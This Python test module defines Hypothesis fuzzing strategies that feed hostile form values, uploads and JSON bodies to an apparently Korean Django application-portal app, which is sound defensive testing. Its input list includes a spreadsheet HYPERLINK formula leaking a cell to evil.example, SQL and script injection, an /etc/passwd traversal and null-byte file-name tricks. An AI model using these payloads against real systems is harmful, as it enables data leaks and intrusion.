"""Hypothesis strategies for what a person (or an attacker) may type into a field, and for JSON bodies."""

from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import strategies as st

from applications.demo import minimal_pdf

from .forms import Field, Form

MISSING = object()
HOSTILE_TEXT = [
    "",
    " ",
    "0",
    "-1",
    '=HYPERLINK("http://evil.example/?leak="&C2,"보기")',
    "+1+2",
    "@SUM(A1)",
    "\x00",
    "\r\n\t",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "가" * 5000,
    "x" * 20_000,
    "\ud7ff\ufeff\u202e",
    "1e400",
    "NaN",
    "99999999999999999999999999",
]
NUMBERS = ["0", "-1", "1", "2147483648", "9223372036854775808", "-9223372036854775809", "1e400", "NaN", "0.5", "1,000"]
DATES = ["2026-02-30", "0000-00-00", "9999-12-31", "0001-01-01", "2026-13-01", "26-1-1", "2026/01/01", "today"]
text = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.text(max_size=60),
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=300),
)


def file_value() -> st.SearchStrategy:
    return st.one_of(
        st.just(""),
        st.builds(lambda: SimpleUploadedFile("문서.pdf", minimal_pdf(), content_type="application/pdf")),
        st.builds(
            lambda data, name: SimpleUploadedFile(name, data),
            st.binary(max_size=2000),
            st.sampled_from(
                ["a.pdf", "a.exe", "a", "..\\..\\a.pdf", "가" * 300 + ".hwp", "a.pdf\x00.exe", "=cmd.xlsx"]
            ),
        ),
    )


def field_value(f: Field) -> st.SearchStrategy:
    if f.kind == "file":
        return file_value()
    if f.kind in ("select", "radio", "checkbox", "submit") and f.options:
        chosen = st.sampled_from(f.options)
        if f.multiple:
            return st.one_of(st.lists(chosen, max_size=len(f.options) + 1), text)
        return st.one_of(chosen, chosen, chosen, text)
    if f.kind == "number":
        return st.one_of(
            st.sampled_from(NUMBERS),
            st.integers(min_value=-(10**20), max_value=10**20).map(str),
            st.floats(allow_nan=True, allow_infinity=True).map(repr),
            text,
        )
    if f.kind in ("date", "datetime-local", "month"):
        return st.one_of(st.dates().map(str), st.sampled_from(DATES), text)
    if f.kind == "email":
        return st.one_of(st.emails(), text)
    if f.kind == "hidden":
        return st.one_of(st.just(f.value), st.just(f.value), st.just(f.value), text)
    return text


def form_data(form: Form) -> st.SearchStrategy:
    """Every field: a value of its kind, often a hostile one, sometimes missing; sometimes extra fields."""
    fields = {
        name: st.one_of(field_value(f), field_value(f), field_value(f), st.just(MISSING))
        for name, f in form.fields.items()
        if name != "csrfmiddlewaretoken"
    }
    extras = st.dictionaries(st.text(min_size=1, max_size=20), text, max_size=2)

    def assemble(values: dict, extra: dict) -> dict:
        data = {k: v for k, v in extra.items() if k not in values}
        data.update({k: v for k, v in values.items() if v is not MISSING})
        return data

    return st.builds(assemble, st.fixed_dictionaries(fields), extras)


json_scalar = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(HOSTILE_TEXT[:13]),
    st.text(max_size=40),
)
json_value = st.recursive(
    json_scalar,
    lambda children: st.one_of(
        st.lists(children, max_size=5), st.dictionaries(st.text(max_size=20), children, max_size=5)
    ),
    max_leaves=30,
)
COMPANY_KEYS = [
    "business_number", "address", "factory_address", "lab_address", "no_other_sites", "regular_employees",
    "monthly_headcounts", "ksic_code", "annual_revenue_krw", "sme_certified", "located_since",
]  # fmt: skip
json_body = st.one_of(
    json_value,
    st.fixed_dictionaries(
        {},
        optional={
            "call": st.one_of(json_scalar, st.sampled_from(["2027-hvc", "2027-itd", "../x"])),
            "company": st.one_of(
                json_value, st.fixed_dictionaries({}, optional=dict.fromkeys(COMPANY_KEYS, json_value))
            ),
        },
    ),
)
raw_body = st.one_of(
    st.binary(max_size=300),
    st.integers(min_value=1, max_value=3000).map(lambda depth: b"[" * depth + b"]" * depth),
    st.integers(min_value=1, max_value=3000).map(lambda depth: b'{"a":' * depth + b"1" + b"}" * depth),
    st.sampled_from([b"NaN", b"[Infinity]", b'{"a": 1e999}', b"9" * 5000, b'"\xff"', b"{", b""]),
)
query = st.dictionaries(
    st.one_of(st.sampled_from(["open", "year", "page", "format", "call"]), st.text(max_size=10)),
    st.one_of(st.sampled_from(["true", "false", "", "2026", "-1", "99999999999999999999", "x"]), st.text(max_size=20)),
    max_size=3,
)
